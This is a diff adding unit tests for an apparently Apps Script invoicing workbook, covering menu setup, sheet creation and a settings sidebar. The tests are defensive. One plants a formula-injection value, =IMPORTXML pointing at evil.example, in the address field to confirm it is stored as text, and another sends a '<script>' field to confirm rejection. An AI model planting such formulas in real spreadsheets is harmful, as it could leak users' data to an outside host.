@@ -1,0 +1,166 @@
+import { WORKBOOK } from '../../src/sheets/schema';
+import type { SaveResult, SettingsForm, SettingsView, SetupReport } from '../../src/ui/contracts';
+import { openBundle, sheetNames } from './support';
+
+const form: SettingsForm = {
+  companyName: '株式会社ぽっけ商店',
+  registrationNumber: 'T7000012050002',
+  postalCode: '１００-０００１',
+  address: '東京都千代田区千代田1-1',
+  phone: '03-1234-5678',
+  email: 'billing@example.com',
+  bankName: 'みずほ銀行',
+  bankBranch: '東京営業部',
+  accountType: '普通',
+  accountNumber: '0123456',
+  accountHolder: 'カ)ポッケショウテン',
+  rounding: 'floor',
+  defaultTerms: '月末締め翌月末払い',
+};
+
+function snapshotAll(bundle: ReturnType<typeof openBundle>) {
+  return bundle.workspace.SpreadsheetApp.active!.getSheets().map((s) => s.snapshot());
+}
+
+describe('onOpen', () => {
+  it('adds the Pokke menu whose items call top-level functions', () => {
+    const bundle = openBundle();
+    bundle.run('onOpen', [{ authMode: 'NONE' }]);
+    const menus = bundle.workspace.ui.menus;
+    expect(menus).toHaveLength(1);
+    const items = JSON.stringify(menus[0]);
+    expect(items).toContain('設定');
+    expect(items).toContain('showSettingsSidebar');
+    expect(items).toContain('menuSetupWorkbook');
+    expect(bundle.entryPoints).toEqual(expect.arrayContaining(['showSettingsSidebar', 'menuSetupWorkbook']));
+  });
+});
+
+describe('set up workbook', () => {
+  it('creates every sheet with Japanese headers, a frozen bold header, formats and dropdowns', () => {
+    const bundle = openBundle();
+    const report = bundle.runJson('setupWorkbook') as SetupReport;
+    expect(report.created).toEqual(WORKBOOK.map((s) => s.name));
+    expect(report.message).toMatch(/^ワークブックを準備しました/);
+    expect(sheetNames(bundle)).toEqual(expect.arrayContaining(['設定', '取引先', '売上明細', '請求書', '実行ログ']));
+
+    const ss = bundle.workspace.SpreadsheetApp.active!;
+    const sales = ss.getSheetByName('売上明細')!.snapshot();
+    expect(sales.values[0]).toEqual(['日付', '取引先', '品目', '数量', '単位', '単価', '税率', '税込/税抜', '備考', '請求書番号', 'メッセージ']);
+    expect(sales.frozenRows).toBe(1);
+    const taxRate = ss.getSheetByName('売上明細')!.getRange('G2').getDataValidation();
+    expect(taxRate?.getCriteriaValues()[0]).toEqual(['10%', '8%', '0%', '非課税']);
+    expect(ss.getSheetByName('売上明細')!.getRange('F2').getNumberFormat()).toBe('#,##0');
+    expect(ss.getSheetByName('売上明細')!.getRange('A1').getFontWeight()).toBe('bold');
+
+    const settings = ss.getSheetByName('設定')!.getDataRange().getValues();
+    expect(settings[0]).toEqual(['キー', '項目', '値', '説明']);
+    expect(settings.map((r) => r[0])).toEqual(expect.arrayContaining(['companyName', 'registrationNumber', 'rounding']));
+  });
+
+  it('changes nothing when run a second time, and costs only a few reads', () => {
+    const bundle = openBundle();
+    bundle.runJson('setupWorkbook');
+    const before = snapshotAll(bundle);
+    bundle.workspace.meter.resetCounts();
+    const report = bundle.runJson('setupWorkbook') as SetupReport;
+    expect(report.created).toEqual([]);
+    expect(report.updated).toEqual([]);
+    expect(report.message).toMatch(/変更はありません/);
+    expect(snapshotAll(bundle)).toEqual(before);
+    const counts = bundle.workspace.meter.counts();
+    const writes = Object.keys(counts).filter((k) => /\.set|\.insert|\.append|\.delete/.test(k));
+    expect(writes).toEqual([]);
+  });
+
+  it('keeps the owner’s own columns and order, and adds only what is missing', () => {
+    const bundle = openBundle();
+    const ss = bundle.workspace.SpreadsheetApp.active!;
+    const clients = ss.insertSheet('取引先');
+    clients.getRange(1, 1, 2, 3).setValues([
+      ['メール', '自分用メモ', '取引先名'],
+      ['info@example.jp', '大事な顧客', '山田デザイン事務所'],
+    ]);
+    const report = bundle.runJson('setupWorkbook') as SetupReport;
+    expect(report.updated).toContain('取引先');
+    const values = clients.getDataRange().getValues();
+    expect(values[0]!.slice(0, 4)).toEqual(['メール', '自分用メモ', '取引先名', '敬称']);
+    expect(values[1]!.slice(0, 3)).toEqual(['info@example.jp', '大事な顧客', '山田デザイン事務所']);
+  });
+
+  it('works from the menu and tells the user what it did', () => {
+    const bundle = openBundle();
+    bundle.run('menuSetupWorkbook');
+    expect(JSON.stringify(bundle.workspace.ui.shown)).toContain('ワークブックを準備しました');
+  });
+});
+
+describe('settings sidebar server functions', () => {
+  it('opens the settings sidebar from the built HTML file', () => {
+    const bundle = openBundle();
+    bundle.run('showSettingsSidebar');
+    const sidebar = bundle.workspace.ui.sidebar;
+    expect(sidebar?.title).toContain('設定');
+    expect(sidebar?.content).toContain('<script>');
+    expect(sidebar?.content).not.toMatch(/<script[^>]+src=/);
+  });
+
+  it('saves to the 設定 sheet and loads the same values back', () => {
+    const bundle = openBundle();
+    bundle.runJson('setupWorkbook');
+    const saved = bundle.runJson('settingsSave', [form]) as SaveResult;
+    expect(saved.ok).toBe(true);
+    const view = bundle.runJson('settingsLoad') as SettingsView;
+    expect(view.needsSetup).toBe(false);
+    expect(view.settings).toEqual({ ...form, postalCode: '100-0001' });
+    const rows = bundle.workspace.SpreadsheetApp.active!.getSheetByName('設定')!.getDataRange().getDisplayValues();
+    const byKey = Object.fromEntries(rows.map((r) => [r[0], r[2]]));
+    expect(byKey.accountNumber).toBe('0123456');
+    expect(byKey.rounding).toBe('切り捨て');
+    expect(byKey.companyName).toBe('株式会社ぽっけ商店');
+  });
+
+  it('refuses a malformed registration number and writes nothing', () => {
+    const bundle = openBundle();
+    bundle.runJson('setupWorkbook');
+    const sheet = bundle.workspace.SpreadsheetApp.active!.getSheetByName('設定')!;
+    const before = sheet.snapshot();
+    const saved = bundle.runJson('settingsSave', [{ ...form, registrationNumber: 'T123' }]) as SaveResult;
+    expect(saved).toEqual({ ok: false, issues: [expect.objectContaining({ field: 'registrationNumber', severity: 'error' })] });
+    expect(sheet.snapshot()).toEqual(before);
+  });
+
+  it('saves a number that fails the corporate check digit, with a warning', () => {
+    const bundle = openBundle();
+    bundle.runJson('setupWorkbook');
+    const saved = bundle.runJson('settingsSave', [{ ...form, registrationNumber: 'T1000012050002' }]) as SaveResult;
+    expect(saved.ok).toBe(true);
+    expect(saved.ok && saved.warnings.map((w) => w.field)).toEqual(['registrationNumber']);
+  });
+
+  it('rejects a request that is not a settings form with a readable message', () => {
+    const bundle = openBundle();
+    bundle.runJson('setupWorkbook');
+    expect(() => bundle.runJson('settingsSave', [{ companyName: 1 }])).toThrow(/^入力内容が正しくありません/);
+    expect(() => bundle.runJson('settingsSave', [{ ...form, extra: '<script>' }])).toThrow(/入力内容/);
+  });
+
+  it('stores hostile text as text, never as a formula', () => {
+    const bundle = openBundle();
+    bundle.runJson('setupWorkbook');
+    const saved = bundle.runJson('settingsSave', [{ ...form, address: '=IMPORTXML("http://evil.example","//a")' }]) as SaveResult;
+    expect(saved.ok).toBe(true);
+    const view = bundle.runJson('settingsLoad') as SettingsView;
+    expect(view.settings.address).toBe('=IMPORTXML("http://evil.example","//a")');
+    const sheet = bundle.workspace.SpreadsheetApp.active!.getSheetByName('設定')!;
+    const formulas = sheet.getDataRange().getFormulas().flat().filter(Boolean);
+    expect(formulas).toEqual([]);
+  });
+
+  it('asks for setup when the workbook has no 設定 sheet', () => {
+    const bundle = openBundle();
+    const view = bundle.runJson('settingsLoad') as SettingsView;
+    expect(view.needsSetup).toBe(true);
+    expect(view.settings.rounding).toBe('floor');
+  });
+});
